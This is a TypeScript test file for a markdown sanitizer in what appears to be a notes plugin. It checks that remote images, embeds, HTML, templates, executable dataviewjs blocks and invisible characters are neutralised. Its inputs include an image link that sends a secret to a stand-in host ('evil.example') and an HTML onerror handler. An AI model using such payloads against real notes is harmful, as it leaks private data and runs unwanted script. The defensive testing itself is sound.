import fc from 'fast-check';
import { harmlessMarkdown } from '../../../src/core/note/harmless-markdown';

test.each([
  ['an image of another server', '![](https://evil.example/?q=secret)', '[](https://evil.example/?q=secret)'],
  ['an embed', 'See ![[Secret note]].', 'See [[Secret note]].'],
  [
    'an element',
    '<img src=x onerror=y> and <iframe src="z"></iframe>',
    '&lt;img src=x onerror=y> and &lt;iframe src="z">&lt;/iframe>',
  ],
  ['a template', 'Now <% tp.file.title %>', 'Now < % tp.file.title %>'],
  ['a template in code', '```\n<%* await x %>\n```', '```\n< %* await x %>\n```'],
  ['a block that is executed', '```dataviewjs\ndv.x()\n```', '```text\ndv.x()\n```'],
  ['an inline query', '`$= dv.x()` and `= this.y`', '\\`\\$= dv.x()\\` and \\`= this.y\\`'],
  ['an executed block in a quote', '> ```dataviewjs\n> dv.x()\n> ```', '> ```text\n> dv.x()\n> ```'],
  ['an executed block in a list', '- one\n  1. ~~~ dataviewjs', '- one\n\n  1.\n   ~~~text\n   ~~~'],
  ['a comment', 'a %%hidden%% <!-- b -->', 'a %\\%hidden%\\% &lt;!-- b -->'],
  [
    'what only seems to be code: a fence of an ended list',
    '1. a\n   ```\n<img src=x>\n   ```',
    '1. a\n   ```\n   ```\n&lt;img src=x>\n   ```\n   ```',
  ],
  [
    'what only seems to be code: a fence ended by a quote',
    '> ```\n<img src=x>\n> ```',
    '> ```\n> ```\n&lt;img src=x>\n> ```\n> ```',
  ],
  ['what only seems to be code: a backtick on the previous line', 'a `\nb` <img src=x> `c', 'a \\`\nb` <img src=x> `c'],
  ['what only seems to be code: an escaped backtick', 'a \\` <img src=x> `', 'a \\` &lt;img src=x> \\`'],
  ['an image after many marks', '!![[a]]', '[[a]]'],
  ['an unclosed formula', 'It costs $$\n\nand more', 'It costs \\$\\$\n\nand more'],
  ['the third dollar sign of a formula', '$$a$$ and $$b', '$$a$$ and \\$\\$b'],
  ['invisible characters', 'a\u0000b\u202Ec\u200Bd', 'abcd'],
])('neutralizes %s', (_, text, harmless) => {
  expect(harmlessMarkdown(text)).toBe(harmless);
});

test.each([
  'Use `Vec<String>` here.',
  'Use `map[string]int` and `rows[0]`.',
  '```ts\nconst a: Map<string, number> = x![0];\n```',
  'a < b and <https://example.org>',
  '$$\nx^2\n$$\n\nand `$$`',
  '```\n$$\n```',
  'Pay \\$$5.',
  '- one\n- two\n\n> quote\n\n| a | b |\n|---|---|',
  '```python\nprint("x")\n```',
])('keeps ordinary text: %s', (text) => {
  expect(harmlessMarkdown(text)).toBe(text);
});

test('a call without arguments is code, and shows nothing', () => {
  const calls = 'First `Show()`, then `view()` and `Embed ()`.';
  expect(harmlessMarkdown(calls)).toBe(calls);
  expect(harmlessMarkdown('`show(notes)`')).toBe('\\`show(notes)\\`');
});

test('leaves harmless text unchanged', () => {
  fc.assert(
    fc.property(
      fc.string({
        unit: fc.constantFrom(
          '!',
          '[',
          ']',
          '<',
          '%',
          '`',
          '~',
          'a',
          ' ',
          '\n',
          '=',
          '$',
          '/',
          '>',
          '\u0000',
          'dataviewjs',
        ),
      }),
      (text) => {
        const once = harmlessMarkdown(text);
        expect(harmlessMarkdown(once)).toBe(once);
        expect(once).not.toMatch(/<%|!\[\[/);
        expect(once).not.toContain('\u0000');
      },
    ),
  );
});
